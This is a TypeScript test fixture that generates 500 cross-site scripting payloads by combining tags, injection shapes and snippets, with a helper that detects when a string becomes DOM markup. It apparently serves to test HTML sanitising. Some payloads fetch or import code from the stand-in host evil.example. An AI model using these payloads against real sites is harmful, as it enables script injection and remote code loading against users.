const CODES = [
  'alert(1)',
  'javascript:alert(1)',
  'fetch`//evil.example`',
  'import("//evil.example")',
  '{{alert(1)}}',
];
const TAGS = ['img', 'svg', 'iframe', 'script', 'style', 'body', 'details', 'input', 'object', 'math'];
const SHAPES: readonly ((tag: string, code: string) => string)[] = [
  (tag, code) => `<${tag} onerror=${code} src=x>`,
  (tag, code) => `"><${tag} onload="${code}">`,
  (tag, code) => `'><${tag}/onfocus='${code}' autofocus>`,
  (tag, code) => `</pre></div><${tag}>${code}</${tag}>`,
  (tag, code) => `<${tag} href="${code}" xlink:href="${code}">`,
  (tag, code) => `<${tag.toUpperCase()} SrcDoc="&lt;script&gt;${code}&lt;/script&gt;">`,
  (tag, code) => `<!--><${tag} ontoggle=${code} open>-->`,
  (tag, code) => `&lt;${tag} onclick=${code}&gt;`,
  (tag, code) => `\\x3c${tag} style="background:url(${code})">`,
  (tag, code) => `[a](${code}) ![b](${code} "<${tag}>")`,
];
/** 500 texts that would be code, were they taken for markup. */
export const PAYLOADS = SHAPES.flatMap((shape) =>
  TAGS.flatMap((tag) => CODES.map((code) => shape(tag, code))),
);

/** Which elements there are: it changes when a text becomes markup. */
export const elementsOf = (root: Element): string =>
  [...root.querySelectorAll('*')].map(({ tagName }) => tagName).join();
